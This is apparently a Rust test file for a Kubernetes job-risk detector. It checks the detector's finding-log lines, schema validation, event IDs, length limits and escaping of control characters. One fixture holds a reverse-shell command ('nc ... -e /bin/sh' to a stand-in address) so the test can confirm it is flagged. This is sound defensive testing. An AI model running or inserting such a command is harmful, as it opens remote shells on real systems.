use serde_json::{Value, json};

use super::*;
use crate::api::report::{Actor, JobRiskReport};
use crate::assess::{assess, assess_workload};
use crate::report::report;
use crate::text::SafeText;
use crate::workload::Workload;
use crate::workload::decode::from_json;

const TIME: &str = "2026-01-01T00:00:00Z";

fn stamp() -> Stamp {
    Stamp { time: TIME.to_owned(), instance: "jobrisk-0".to_owned(), sequence: 7 }
}

fn report_on(pod: &str) -> JobRiskReport {
    let json = format!(
        r#"{{"metadata":{{"name":"a","namespace":"n","uid":"u-1","generation":3}},"spec":{{"template":{{"spec":{pod}}}}}}}"#
    );
    report(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap())).report
}

fn line_on(pod: &str, before: Option<Severity>) -> Line {
    let before = before.map(|severity| Verdict { severity, risk_score: 1 });
    Line::verdict(&stamp(), Kind::Job, &report_on(pod), before, false).unwrap()
}

fn about(severity: Severity) -> About<'static> {
    let last = Verdict { severity, risk_score: 50 };
    About {
        kind: Kind::CronJob,
        namespace: "n",
        name: "a",
        uid: "u-1",
        report: "cronjob-a",
        last,
        retained: severity >= Severity::High,
    }
}

fn json_of(line: Line) -> Value {
    let text = line.text().unwrap();
    assert!(text.ends_with('\n') && text.len() <= MAX_LINE && text.lines().count() == 1, "{text}");
    let value: Value = serde_json::from_str(&text).unwrap();
    // What is read again is what was written.
    let read: Line = serde_json::from_value(value.clone()).unwrap();
    assert_eq!(serde_json::to_value(read).unwrap(), value);
    value
}

/// What the schema says is wrong with a line.
fn problems(line: &Value) -> Vec<String> {
    let validator = jsonschema::draft202012::new(&schema::schema()).unwrap();
    validator.iter_errors(line).map(|error| format!("{}: {error}", error.instance_path())).collect()
}

const SHELL: &str = r#"{"hostNetwork":true,"containers":[{"name":"c","image":"alpine","command":["nc","192.0.2.1","4444","-e","/bin/sh"]}]}"#;
const HOST: &str = r#"{"hostNetwork":true,"containers":[{"name":"c","image":"registry.example.test/a/b:1.0","command":["backup"]}]}"#;
const PLAIN: &str =
    r#"{"containers":[{"name":"c","image":"registry.example.test/a/b:1.0","command":["backup"]}]}"#;

#[test]
fn a_line_has_the_names_of_the_search_and_ours() {
    let line = json_of(line_on(SHELL, None));
    for (name, value) in [
        ("_time", json!(TIME)),
        ("objectRef.resource", json!("jobs")),
        ("verb", json!("create")),
        ("namespace", json!("n")),
        ("resource_name", json!("a")),
        ("IsSuspiciousImage", json!(1)),
        ("IsSuspiciousCommand", json!(1)),
        ("IsHostPathMount", json!(0)),
        ("IsPrivileged", json!(0)),
        ("IsHostNetwork", json!(1)),
        ("IsSensitiveMount", json!(0)),
        ("SuspicionScore", json!(3)),
        ("schema", json!("jobrisk.io/finding-log")),
        ("schemaVersion", json!("1.0")),
        ("action", json!("detected")),
        ("instance", json!("jobrisk-0")),
        ("sequence", json!(7)),
        ("kind", json!("Job")),
        ("uid", json!("u-1")),
        ("findingUid", json!("jobrisk-u-1")),
        ("report", json!("job-a")),
        ("generation", json!(3)),
        ("retained", json!(true)),
    ] {
        assert_eq!(line[name], value, "{name}");
    }
    assert_eq!(line.get("user"), None, "nobody vouches for it");
    assert!(line["techniques"].as_array().unwrap().contains(&json!("T1053.007")), "{line}");
    assert_eq!(line["findings"][0]["rule"], line["rules"][0]);
    assert_eq!(problems(&line), Vec::<String>::new());
}

#[test]
fn each_action_is_a_valid_line() {
    let mut lines = vec![
        (Action::Assessed, line_on(PLAIN, None)),
        (Action::Detected, line_on(SHELL, None)),
        (Action::Detected, line_on(SHELL, Some(Severity::None))),
        (Action::Raised, line_on(SHELL, Some(Severity::Low))),
        (Action::Lowered, line_on(HOST, Some(Severity::High))),
        (Action::Changed, line_on(SHELL, Some(report_on(SHELL).status.unwrap().severity))),
        (Action::Cleared, line_on(PLAIN, Some(Severity::High))),
        (Action::Changed, line_on(PLAIN, Some(Severity::None))),
        (Action::Deleted, Line::deleted(&stamp(), &about(Severity::Medium))),
        (Action::Merged, Line::merged(&stamp(), &about(Severity::High))),
        (Action::EvidenceChanged, Line::evidence(&stamp(), &about(Severity::High), false)),
        (Action::EvidenceRemoved, Line::evidence(&stamp(), &about(Severity::High), true)),
    ];
    let before = Verdict { severity: Severity::High, risk_score: 50 };
    let tampered = Line::verdict(&stamp(), Kind::Job, &report_on(SHELL), Some(before), true);
    lines.push((Action::Tampered, tampered.unwrap()));
    for action in Action::ALL {
        assert!(lines.iter().any(|(expected, _)| *expected == action), "{action:?} is not tried");
    }
    for (action, line) in lines {
        assert_eq!(line.action, action);
        assert_eq!(line.details.is_some(), action.has_verdict(), "{action:?}");
        let json = json_of(line);
        assert_eq!(json["action"], action.as_str());
        assert_eq!(problems(&json), Vec::<String>::new(), "{json}");
    }
}

#[test]
fn the_schema_refuses_what_is_no_line() {
    let good = json_of(line_on(SHELL, None));
    let deleted = json_of(Line::deleted(&stamp(), &about(Severity::High)));
    let with = |base: &Value, field: &str, value: Value| {
        let mut line = base.clone();
        line[field] = value;
        line
    };
    for wrong in [
        with(&good, "extra", json!(1)),
        with(&good, "action", json!("shrugged")),
        with(&good, "schemaVersion", json!("2.0")),
        with(&good, "schema", json!("x")),
        with(&good, "severity", json!("Worse")),
        with(&good, "riskScore", json!(101)),
        with(&good, "IsPrivileged", json!(2)),
        with(&good, "IsPrivileged", json!("1")),
        with(&good, "kind", json!("Pod")),
        with(&good, "sequence", json!(0)),
        with(&good, "id", json!("x")),
        with(&deleted, "findings", json!([])),
    ] {
        assert!(!problems(&wrong).is_empty(), "{wrong}");
    }
    for field in
        good.as_object().unwrap().keys().filter(|field| !["verb", "attribution"].contains(&field.as_str()))
    {
        let mut line = good.clone();
        line.as_object_mut().unwrap().remove(field);
        assert!(!problems(&line).is_empty(), "{field} may be missing");
    }
    let mut nested = good.clone();
    nested["findings"][0]["extra"] = json!(1);
    assert_eq!(problems(&nested).len(), 1);
}

#[test]
fn the_same_event_has_the_same_id_and_no_other() {
    let one = line_on(SHELL, None);
    let again = Line { sequence: 8, ..line_on(SHELL, None) };
    assert_eq!(one.id, again.id);
    let mut others: Vec<String> = [
        line_on(SHELL, Some(Severity::Low)),
        line_on(PLAIN, None),
        Line::deleted(&stamp(), &about(Severity::High)),
        Line::deleted(&stamp(), &about(Severity::Low)),
        Line::merged(&stamp(), &about(Severity::High)),
        Line::evidence(&stamp(), &about(Severity::High), true),
        Line::evidence(&Stamp { time: "later".to_owned(), ..stamp() }, &about(Severity::High), true),
        Line::deleted(&stamp(), &About { uid: "u-2", ..about(Severity::High) }),
        one,
    ]
    .map(|line| line.id)
    .into();
    others.sort();
    others.dedup();
    assert_eq!(others.len(), 9);
}

#[test]
fn a_line_is_never_too_long_and_leaves_out_the_least() {
    // More of everything than any report has, in the longest form that an API server takes.
    let mut workload = Workload::from_object(Kind::Job, &from_json(b"{}").unwrap());
    workload.name = "a".repeat(63);
    workload.namespace = "b".repeat(63);
    workload.uid = "c".repeat(36);
    let mut written = report(&assess_workload(workload)).report;
    let status = written.status.as_mut().unwrap();
    let wide = |length: usize| SafeText::new(&"\u{1f480}".repeat(length), length);
    status.findings = (0..20)
        .map(|number| Finding {
            rule: format!("id-controller-service-account-{number:02}"),
            severity: Severity::High,
            points: 100,
            techniques: vec!["T1053.007".to_owned(); 16],
            container: Some(wide(64)),
            path: "p".repeat(256),
            evidence: wide(128),
            message: "m".repeat(128),
        })
        .collect();
    status.findings_total = 15_000;
    status.techniques = (0..64).map(|number| format!("T1053.{number:03}")).collect();
    let actor = Actor {
        user: Some(wide(256)),
        pod: Some(wide(256)),
        node: Some(wide(256)),
        credential: Some(wide(256)),
        arn: Some(wide(256)),
        canonical_arn: Some(wide(256)),
        session: Some(wide(256)),
    };
    status.attribution = Some(Attribution {
        verified: false,
        actor: actor.clone(),
        created_by: Some(actor),
        manager: wide(128),
        operation: SafeText::new("Update", 16),
        time: SafeText::new(TIME, 40),
    });
    let stamp = Stamp { instance: "i".repeat(64), sequence: u64::MAX, ..stamp() };
    let line = Line::verdict(&stamp, Kind::Job, &written, None, false).unwrap();
    assert!(serde_json::to_string(&line).unwrap().len() > 3 * MAX_LINE);
    let json = json_of(line);
    assert_eq!(json["rules"].as_array().unwrap().len(), 20, "which rules were hit is always said");
    assert_eq!(json["findingsTotal"], 15_000);
    assert_eq!(problems(&json), Vec::<String>::new());

    // Of findings as they usually are, most have room.
    let json = json_of(line_on(SHELL, None));
    assert_eq!(json["findings"].as_array().unwrap().len(), report_on(SHELL).status.unwrap().findings.len());
}

#[test]
fn nothing_in_a_line_is_a_command() {
    let hostile = "a\u{1b}[2J\u{9b}31m\r\n\u{202e}\u{2028}\u{e0041}\u{7f}\"\\";
    let about =
        About { namespace: hostile, name: hostile, uid: hostile, report: hostile, ..about(Severity::Low) };
    let stamp = Stamp { instance: hostile.to_owned(), ..stamp() };
    let text = Line::deleted(&stamp, &about).text().unwrap();
    let inside = text.strip_suffix('\n').unwrap();
    assert!(inside.chars().all(|character| (' '..='~').contains(&character)), "{inside:?}");
    // Text that others put into a line keeps its meaning.
    assert_eq!(json::in_one_line(&"\u{9b}\u{e0041}é").unwrap(), "\"\\u009b\\udb40\\udc41é\"");
}

#[test]
fn a_line_that_no_object_of_an_api_server_gives_is_none() {
    let mut line = line_on(PLAIN, None);
    line.report = "x".repeat(MAX_LINE);
    assert_eq!(line.text(), None);
}
